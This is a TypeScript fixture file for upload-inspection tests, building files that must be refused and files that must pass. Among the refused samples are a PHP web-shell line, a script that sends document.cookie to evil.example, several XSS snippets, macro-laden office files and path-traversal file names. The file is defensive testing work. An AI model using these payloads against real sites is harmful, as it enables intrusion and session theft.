// Uploads that must be refused, and good ones that must pass: shared by the inspection tests here
// and the upload tests of the documents feature. Everything is built in code.
import { gzipSync } from "node:zlib";
import type { InspectRefusal } from "./inspect";
import {
  DOCX_MAIN,
  docxEntries,
  makeDocx,
  makeHeic,
  makeJpeg,
  makeOds,
  makeOdt,
  makePdf,
  makePng,
  makeXlsx,
  ODS_MIME,
  odsBody,
  ODT_MIME,
  odfEntries,
  odtBody,
  XLSX_MAIN,
  xlsxEntries,
} from "./samples";
import { makeZip } from "./zip-writer";

export type HostileFile = {
  name: string;
  description: string;
  make: () => Buffer | Promise<Buffer>;
  reason: InspectRefusal | "too_large" | "infected";
};

export type GoodFile = { name: string; description: string; make: () => Buffer; mime: string };

/** Text in Russian and Kazakh, with every Kazakh-specific letter. */
export const CYRILLIC_SAMPLE = "Договор поставки № 7. Қазақ тілі: әғқңөұүһі ӘҒҚҢӨҰҮҺІ";

/** The EICAR anti-virus test string (harmless; every scanner reports it). */
export const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

const text = (value: string) => Buffer.from(value, "utf8");
const bytes = (...values: number[]) => Buffer.from(values);
const padded = (head: Buffer, size = 512) => Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length), 0x41)]);

const HTML_PAGE =
  "<!DOCTYPE html><html><body><script>fetch('/api/me').then(r=>r.text()).then(alert)</script></body></html>";
const SVG_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>';

/** A file one byte over the upload limit: a valid PDF padded with a comment, so only its size is wrong. */
export function oversize(limitBytes: number): Buffer {
  const pdf = makePdf();
  if (pdf.length > limitBytes) throw new Error("limit is smaller than the sample PDF");
  return Buffer.concat([pdf, Buffer.from("%"), Buffer.alloc(limitBytes - pdf.length, 0x20)]);
}

export const HOSTILE_FILES: HostileFile[] = [
  { name: "empty.pdf", description: "zero bytes", make: () => Buffer.alloc(0), reason: "empty" },
  {
    name: "invoice.pdf",
    description: "an HTML page named .pdf",
    make: () => text(HTML_PAGE),
    reason: "type_not_allowed",
  },
  {
    name: "polyglot.pdf",
    description: "a PDF whose head is also an HTML page",
    make: () => makePdf(["Hello"], "<html><body><script>alert(1)</script>\n"),
    reason: "type_not_allowed",
  },
  {
    name: "polyglot-upper.pdf",
    description: "a PDF with an upper-case IFRAME in its head",
    make: () => makePdf(["Hello"], '%<IFRAME SRC="https://evil.example"></IFRAME>\n'),
    reason: "type_not_allowed",
  },
  {
    name: "logo.png",
    description: "an SVG with a script named .png",
    make: () => text(SVG_SCRIPT),
    reason: "type_not_allowed",
  },
  { name: "logo.svg", description: "an SVG with a script", make: () => text(SVG_SCRIPT), reason: "type_not_allowed" },
  {
    name: "scan.pdf",
    description: "an SVG with an XML declaration named .pdf",
    make: () => text(`<?xml version="1.0" encoding="UTF-8"?>\n${SVG_SCRIPT}`),
    reason: "type_not_allowed",
  },
  {
    name: "photo.jpg",
    description: "an ELF executable named .jpg",
    make: () => padded(bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0)),
    reason: "type_not_allowed",
  },
  {
    name: "photo2.jpg",
    description: "a Windows MZ/PE executable named .jpg",
    make: () => padded(bytes(0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff)),
    reason: "type_not_allowed",
  },
  {
    name: "contract.pdf",
    description: "a Mach-O executable named .pdf",
    make: () => padded(bytes(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1)),
    reason: "type_not_allowed",
  },
  {
    name: "Invoice.class.jpg",
    description: "a Java class file",
    make: () => padded(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34)),
    reason: "type_not_allowed",
  },
  {
    name: "avatar.jpg",
    description: "a PHP script named .jpg",
    make: () => text("<?php system($_GET['c']); ?>\n"),
    reason: "type_not_allowed",
  },
  {
    name: "report.docx",
    description: "a plain ZIP named .docx",
    make: () => makeZip([{ name: "readme.txt", data: "not a document" }]),
    reason: "type_not_allowed",
  },
  {
    name: "archive.pdf",
    description: "a ZIP with an HTML page named .pdf",
    make: () => makeZip([{ name: "index.html", data: HTML_PAGE }]),
    reason: "type_not_allowed",
  },
  {
    name: "letter.docx",
    description: "a macro-enabled Word document (.docm) named .docx",
    make: () =>
      makeZip(
        docxEntries(["Hello"], "application/vnd.ms-word.document.macroEnabled.main+xml", [
          { name: "word/vbaProject.bin", data: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) },
        ]),
      ),
    reason: "macros",
  },
  {
    name: "letter2.docx",
    description: "a Word document with an ordinary main part but a vbaProject.bin inside",
    make: () =>
      makeZip(docxEntries(["Hello"], DOCX_MAIN, [{ name: "word/vbaProject.bin", data: Buffer.alloc(64, 1) }])),
    reason: "macros",
  },
  {
    name: "form.docx",
    description: "a Word document with an ActiveX control",
    make: () => makeZip(docxEntries(["Hello"], DOCX_MAIN, [{ name: "word/activeX/activeX1.xml", data: "<ax:ocx/>" }])),
    reason: "macros",
  },
  {
    name: "prices.xlsx",
    description: "a macro-enabled workbook (.xlsm) named .xlsx",
    make: () =>
      makeZip(
        xlsxEntries(["Hello"], "application/vnd.ms-excel.sheet.macroEnabled.main+xml", [
          { name: "xl/vbaProject.bin", data: Buffer.alloc(64, 1) },
        ]),
      ),
    reason: "macros",
  },
  {
    name: "prices2.xlsx",
    description: "a workbook with an Excel 4.0 macro sheet",
    make: () =>
      makeZip(xlsxEntries(["Hello"], XLSX_MAIN, [{ name: "xl/macrosheets/sheet2.xml", data: "<xm:macrosheet/>" }])),
    reason: "macros",
  },
  {
    name: "minutes.odt",
    description: "an OpenDocument text with Basic macros",
    make: () =>
      makeZip(
        odfEntries(ODT_MIME, odtBody(["Hello"]), [
          {
            name: "Basic/Standard/Module1.xml",
            data: '<script:module script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>',
          },
        ]),
      ),
    reason: "macros",
  },
  {
    name: "table.ods",
    description: "an OpenDocument spreadsheet that binds opening to a script",
    make: () =>
      makeZip(
        odfEntries(
          ODS_MIME,
          odsBody(["Hello"]),
          [],
          '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="office:load" xlink:href="vnd.sun.star.script:../../../program/python.py$system?language=Python&amp;location=share"/></office:event-listeners></office:scripts>',
        ),
      ),
    reason: "macros",
  },
  {
    name: "slides.odt",
    description: "an OpenDocument presentation named .odt",
    make: () => makeZip(odfEntries("application/vnd.oasis.opendocument.presentation", "<office:presentation/>")),
    reason: "type_not_allowed",
  },
  {
    name: "broken.docx",
    description: "a ZIP header followed by garbage",
    make: () => Buffer.concat([bytes(0x50, 0x4b, 0x03, 0x04), Buffer.alloc(200, 0x5a)]),
    reason: "broken",
  },
  {
    name: "truncated.xlsx",
    description: "a workbook cut in half",
    make: () => {
      const whole = makeXlsx();
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
    reason: "broken",
  },
  {
    name: "bomb.docx",
    description: "a Word document whose [Content_Types].xml inflates past its cap",
    make: () =>
      makeZip([
        { name: "[Content_Types].xml", data: Buffer.alloc(4 * 1024 * 1024, 0x20) },
        ...docxEntries(["x"]).slice(1),
      ]),
    reason: "broken",
  },
  {
    name: "table.csv",
    description: "invalid UTF-8 (a Windows-1251 export)",
    make: () => Buffer.from([0xc4, 0xee, 0xe3, 0xee, 0xe2, 0xee, 0xf0, 0x3b, 0x31, 0x0a]),
    reason: "type_not_allowed",
  },
  {
    name: "notes.txt",
    description: "UTF-16 text (NUL bytes)",
    make: () => Buffer.concat([bytes(0xff, 0xfe), Buffer.from("Hello, world", "utf16le")]),
    reason: "type_not_allowed",
  },
  {
    name: "notes2.txt",
    description: "text with a NUL byte far from the start",
    make: () => Buffer.concat([text("a".repeat(100_000)), bytes(0), text("b")]),
    reason: "type_not_allowed",
  },
  {
    name: "readme.txt",
    description: "a JavaScript file that starts with <script>",
    make: () => text("<script>document.location='https://evil.example/?c='+document.cookie</script>"),
    reason: "type_not_allowed",
  },
  {
    name: "page.txt",
    description: "an HTML page after a BOM and blank lines",
    make: () => text(`\uFEFF\n\n   ${HTML_PAGE}`),
    reason: "type_not_allowed",
  },
  {
    name: "data.csv",
    description: "text with an <svg deep inside the first 64 KiB",
    make: () => text(`a;b\n${"1;2\n".repeat(5000)}<svg onload=alert(1)>\n`),
    reason: "type_not_allowed",
  },
  {
    name: "feed.txt",
    description: "XML named .txt",
    make: () => text('<?xml version="1.0"?><root><item>1</item></root>'),
    reason: "type_not_allowed",
  },
  {
    name: "page2.txt",
    description: "XHTML named .txt",
    make: () => text('<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>'),
    reason: "type_not_allowed",
  },
  {
    name: "print.txt",
    description: "PostScript named .txt",
    make: () => text("%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\n"),
    reason: "type_not_allowed",
  },
  {
    name: "letter.rtf",
    description: "RTF",
    make: () => text("{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello}"),
    reason: "type_not_allowed",
  },
  {
    name: "old.doc",
    description: "an MS-Office 97 (OLE compound file) document",
    make: () => padded(bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0, 0, 0, 0, 0)),
    reason: "type_not_allowed",
  },
  {
    name: "animation.gif",
    description: "GIF",
    make: () => Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;", "latin1"),
    reason: "type_not_allowed",
  },
  {
    name: "photo.webp",
    description: "WebP named .webp",
    make: () => Buffer.concat([text("RIFF"), bytes(0x24, 0, 0, 0), text("WEBPVP8 "), Buffer.alloc(40)]),
    reason: "type_not_allowed",
  },
  {
    name: "scan.tiff",
    description: "TIFF",
    make: () => bytes(0x49, 0x49, 0x2a, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0),
    reason: "type_not_allowed",
  },
  {
    name: "image.png",
    description: "BMP named .png",
    make: () => padded(bytes(0x42, 0x4d, 0x3a, 0, 0, 0)),
    reason: "type_not_allowed",
  },
  {
    name: "files.rar",
    description: "RAR",
    make: () => padded(bytes(0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00)),
    reason: "type_not_allowed",
  },
  {
    name: "files.pdf",
    description: "7-Zip named .pdf",
    make: () => padded(bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4)),
    reason: "type_not_allowed",
  },
  { name: "data.csv.gz", description: "gzip", make: () => gzipSync(text("a;b\n1;2\n")), reason: "type_not_allowed" },
  {
    name: "eicar.txt",
    description: "the EICAR test virus (plain ASCII: only a scanner stops it)",
    make: () => text(EICAR),
    reason: "infected",
  },
];

export const GOOD_FILES: GoodFile[] = [
  { name: "contract.pdf", description: "PDF", make: () => makePdf(["Contract"]), mime: "application/pdf" },
  { name: "photo.jpg", description: "JPEG", make: makeJpeg, mime: "image/jpeg" },
  { name: "logo.png", description: "PNG", make: makePng, mime: "image/png" },
  { name: "IMG_0001.HEIC", description: "HEIC from a phone", make: () => makeHeic("heic"), mime: "image/heic" },
  { name: "image.heif", description: "HEIF", make: () => makeHeic("mif1"), mime: "image/heif" },
  {
    name: "letter.docx",
    description: "Word",
    make: () => makeDocx([CYRILLIC_SAMPLE]),
    mime: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
  },
  {
    name: "prices.xlsx",
    description: "Excel",
    make: () => makeXlsx([CYRILLIC_SAMPLE]),
    mime: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
  },
  { name: "minutes.odt", description: "OpenDocument text", make: () => makeOdt([CYRILLIC_SAMPLE]), mime: ODT_MIME },
  {
    name: "table.ods",
    description: "OpenDocument spreadsheet",
    make: () => makeOds([CYRILLIC_SAMPLE]),
    mime: ODS_MIME,
  },
  { name: "notes.txt", description: "UTF-8 text", make: () => text(`${CYRILLIC_SAMPLE}\n`), mime: "text/plain" },
  {
    name: "notes-bom.txt",
    description: "UTF-8 text with a BOM and a harmless < later on",
    make: () => text(`\uFEFF${CYRILLIC_SAMPLE}\n2 < 3, a -> b\n`),
    mime: "text/plain",
  },
  {
    name: "payments.csv",
    description: "CSV",
    make: () => text(`Наименование;Сумма\n${CYRILLIC_SAMPLE};1000\n`),
    mime: "text/csv",
  },
  {
    name: "cars.csv",
    description: "CSV whose first letters are a BMP magic number",
    make: () => text("BMW;Audi;Lada\n1;2;3\n"),
    mime: "text/csv",
  },
  {
    name: "deploy.sh",
    description: "a shell script is just text",
    make: () => text("#!/bin/sh\necho hello\n"),
    mime: "text/plain",
  },
];

/** Good content under names that must be made safe; `safe` is what displayName should give. */
export const BAD_NAMES: { name: string; make: () => Buffer; mime: string; safe: string }[] = [
  { name: "../../etc/passwd.pdf", make: () => makePdf(), mime: "application/pdf", safe: "passwd.pdf" },
  { name: "..\\..\\windows\\system32\\report.pdf", make: () => makePdf(), mime: "application/pdf", safe: "report.pdf" },
  { name: "report\u0000.exe.pdf", make: () => makePdf(), mime: "application/pdf", safe: "report.exe.pdf" },
  { name: "invoice\u202Efdp.exe", make: () => makePdf(), mime: "application/pdf", safe: "invoicefdp.pdf" },
  { name: "\u2066photo\u2069\u200F.png", make: makePng, mime: "image/png", safe: "photo.png" },
  { name: `${"а".repeat(300)}.pdf`, make: () => makePdf(), mime: "application/pdf", safe: `${"а".repeat(196)}.pdf` },
  { name: "CON.pdf", make: () => makePdf(), mime: "application/pdf", safe: "_CON.pdf" },
  { name: "lpt1", make: () => text("hello"), mime: "text/plain", safe: "_lpt1.txt" },
  { name: "....", make: () => makePdf(), mime: "application/pdf", safe: "document.pdf" },
  { name: "", make: () => makePdf(), mime: "application/pdf", safe: "document.pdf" },
  { name: "report.jpg", make: makePng, mime: "image/png", safe: "report.png" },
  { name: "Акт от 01.02", make: () => makePdf(), mime: "application/pdf", safe: "Акт от 01.02.pdf" },
  { name: "scan.JPEG", make: makeJpeg, mime: "image/jpeg", safe: "scan.jpeg" },
  { name: 'a<b>:c"d|e?f*.txt', make: () => text("hello"), mime: "text/plain", safe: "a_b__c_d_e_f_.txt" },
  { name: " .hidden.pdf. ", make: () => makePdf(), mime: "application/pdf", safe: "hidden.pdf" },
];
